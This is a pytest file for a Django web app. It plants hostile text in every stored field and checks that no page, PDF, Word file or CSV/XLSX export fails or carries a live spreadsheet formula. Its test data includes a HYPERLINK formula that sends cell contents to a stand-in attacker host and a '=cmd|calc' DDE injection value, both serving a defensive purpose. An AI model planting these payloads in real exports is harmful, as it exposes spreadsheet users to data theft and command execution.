"""The stored-input sweep: hostile text already in the database breaks no page, export or document.

Every text field of a process, its goals and outcomes, a sent plan, a course and its team, the
organisations and the people's profiles is filled directly in the database (past every form) with
control characters, a formula and 10,000 characters. Then every GET route of the project that this
data can fill in is fetched by the process's leader and by the administration: no answer may be a
server error, and no spreadsheet may hold a formula. Routes are read from the URL configuration,
so a new page or export is swept as soon as it exists, as long as its parameters are named below.
"""

import csv
import io
import itertools
import re
from datetime import timedelta

import pytest
from django.db import connection, models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from kompetencedialog.courses.models import Course, CourseRun, Enrolment
from kompetencedialog.followup.models import FollowUpMeeting
from kompetencedialog.lib.spreadsheet import FORMULA_STARTS
from kompetencedialog.meetings.services import open_meeting
from kompetencedialog.organisations.models import Membership
from kompetencedialog.overview.selectors import build_overview
from kompetencedialog.overview.tables import all_tables
from kompetencedialog.processes.forms import DETAIL_MAX
from kompetencedialog.processes.models import Outcome, PlanVersion
from kompetencedialog.processes.selectors import plan_for
from kompetencedialog.toolkit.models import Card
from tests import factories
from tests.processes.helpers import fill

pytestmark = pytest.mark.django_db

FORMULA = 'HYPERLINK("http://evil.example/?d="&B2,"Klik her")'
CONTROLS = "\x01\x08\x0b\x0c\x1b\x1f\x7f\x85"
LONG = "æøå " * 2_500
#: Where the sweep does not go: Django's admin, and links that need a secret from an e-mail.
SKIPPED_PREFIXES = ("admin/",)

_starts = itertools.cycle(FORMULA_STARTS)


def hostile(limit: int | None = None) -> str:
    """A formula (each time with the next dangerous first character), control characters, and
    10,000 characters; cut to ``limit`` where the field has one (the most a form lets through;
    without it, the plan's PDF of 10,000 characters in every field takes most of a minute)."""
    # PostgreSQL cannot store NUL at all; SQLite can, and so it must be survived.
    nul = "\x00" if connection.vendor == "sqlite" else ""
    value = f"{next(_starts)}{FORMULA}{CONTROLS}{nul} {LONG}"
    return value[:limit] if limit else value


def _is_free_text(field) -> bool:
    return (
        isinstance(field, models.CharField | models.TextField)
        and field.editable
        and not field.choices
        and not field.unique
        and not isinstance(field, models.SlugField | models.EmailField)
        and field.name != "password"
    )


def spoil(obj, **extra) -> None:
    """Every free-text field of ``obj`` (and ``extra``) written straight into its table."""
    values = dict(extra)
    for field in obj._meta.concrete_fields:
        if _is_free_text(field):
            values[field.name] = hostile(field.max_length)
    type(obj).objects.filter(pk=obj.pk).update(**values)
    obj.refresh_from_db()


@pytest.fixture
def spoiled(world, toolkit):
    """Everything a leader and the administration can see, written by a hostile hand."""
    for organisation in (world.municipality, world.area, world.institution, world.team):
        spoil(organisation)
    for person in (world.leader, world.staff, world.administration):
        spoil(person)
    spoil(world.staff, email="=cmd|calc@evil.example")

    process = factories.make_process(world.institution)
    process.participants.add(world.leader, world.staff)
    goal = factories.make_goal(world.municipality)
    spoil(goal)
    process.goals.add(goal)
    fill(process, owner=world.leader)
    card = Card.objects.filter(phase__toolkit=toolkit).first()
    Outcome.objects.filter(process=process).update(card=card)
    for outcome in Outcome.objects.filter(process=process):
        details = {name: hostile(DETAIL_MAX) for name in Outcome.DETAIL_FIELDS[outcome.kind]}
        spoil(outcome, details=details)
    spoil(process)
    PlanVersion.objects.create(
        process=process,
        number=1,
        content=plan_for(process),
        changes=[
            {"section": hostile(), "key": "markers", "added": [hostile()], "removed": [hostile()]}
        ],
        message=hostile(),
        sent_by=world.leader,
    )

    course = Course.objects.create(organisation=world.municipality, title="Læringsdag")
    spoil(course)
    run = CourseRun.objects.create(
        course=course, starts_on=timezone.localdate() + timedelta(days=30), capacity=5
    )
    spoil(run)
    enrolment = Enrolment.objects.create(run=run, person=world.staff, status="enrolled")

    followup = FollowUpMeeting.objects.create(
        process=process, title="Opfølgning", starts_at=timezone.now() + timedelta(days=7)
    )
    spoil(followup)
    example = factories.make_example(world.institution)
    spoil(example)
    meeting = open_meeting(process=process, by=world.leader)
    return {
        "process_id": [process.pk],
        "organisation_id": [world.municipality.pk, world.institution.pk, world.team.pk],
        "goal_id": [goal.pk],
        "outcome_id": list(Outcome.objects.filter(process=process).values_list("pk", flat=True)),
        "kind": list(Outcome.DETAIL_FIELDS),
        "phase": [card.phase.key],
        "slug": [card.slug],
        "version_id": [PlanVersion.objects.get(process=process).pk],
        "course_id": [course.pk],
        "course_run_id": [run.pk],
        "enrolment_id": [enrolment.pk],
        "followup_meeting_id": [followup.pk],
        "example_id": [example.pk],
        "meeting_id": [meeting.pk],
        "code": [meeting.code],
        "notebook_id": [process.notebook_id],
        "phase_key": [card.phase.key],
        "card_slug": [card.slug],
        "variant": [toolkit.variant],
        "person_id": [world.staff.pk],
        "membership_id": list(
            Membership.objects.filter(user=world.staff).values_list("pk", flat=True)
        ),
        "fmt": ["csv", "xlsx"],
        "table": list(all_tables(build_overview(world.municipality))),
    }


def _routes(patterns=None, prefix: str = ""):
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern) and not route.startswith(SKIPPED_PREFIXES):
            yield route


PARAMETER = re.compile(r"<(?:\w+:)?(\w+)>")


def addresses(values: dict[str, list]) -> list[str]:
    """Every route whose parameters the data can fill, filled in every way it can."""
    found = []
    for route in _routes():
        if route.startswith("^") or "(?P" in route:
            continue
        names = PARAMETER.findall(route)
        if any(name not in values for name in names):
            continue
        for combination in itertools.product(*(values[name] for name in names)):
            filled = dict(zip(names, combination, strict=True))
            found.append("/" + PARAMETER.sub(lambda m, f=filled: str(f[m.group(1)]), route))
    return sorted(set(found))


def formulas_in(response) -> list[str]:
    """The cells of an exported spreadsheet that a spreadsheet program would evaluate."""
    kind = response.get("Content-Type", "")
    if "spreadsheetml" in kind:
        book = load_workbook(io.BytesIO(response.content))
        return [
            f"{sheet.title}!{cell.coordinate}"
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
            or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
        ]
    if kind.startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [
            cell
            for row in csv.reader(io.StringIO(text), delimiter=";")
            for cell in row
            if cell.startswith(FORMULA_STARTS)
        ]
    return []


def readable(response) -> bool:
    kind = response.get("Content-Type", "")
    if "wordprocessingml" in kind:
        Document(io.BytesIO(response.content))
    if kind.startswith("application/pdf"):
        return response.content.startswith(b"%PDF")
    return True


def test_hostile_stored_text_breaks_no_page_export_or_document(world, spoiled):
    every = addresses(spoiled)
    failures, formulas, answered = [], [], set()
    for person in (world.leader, world.administration):
        client = Client(raise_request_exception=False)
        for address in every:
            if address.endswith(".pdf") and address in answered:
                continue  # the same document again, and a plan's PDF takes seconds to lay out
            client.force_login(person)
            response = client.get(address)
            if response.status_code >= 500 or not readable(response):
                failures.append((person.pk, address, response.status_code))
            formulas += [(address, cell) for cell in formulas_in(response)]
            if response.status_code == 200:
                answered.add(address)
    assert failures == []
    assert formulas == []
    # The sweep reached what matters: the plan's documents and every spreadsheet export.
    process, run = spoiled["process_id"][0], spoiled["course_run_id"][0]
    municipality = spoiled["organisation_id"][0]
    assert {
        f"/forloeb/{process}/plan.pdf",
        f"/forloeb/{process}/plan.docx",
        f"/kurser/hold/{run}/deltagere.xlsx",
        f"/kurser/hold/{run}/deltagere.csv",
        f"/overblik/{municipality}/eksport.xlsx",
        f"/overblik/{municipality}/eksport/plans.csv",
        f"/api/v1/processes/{process}/plan.docx",
    } <= answered
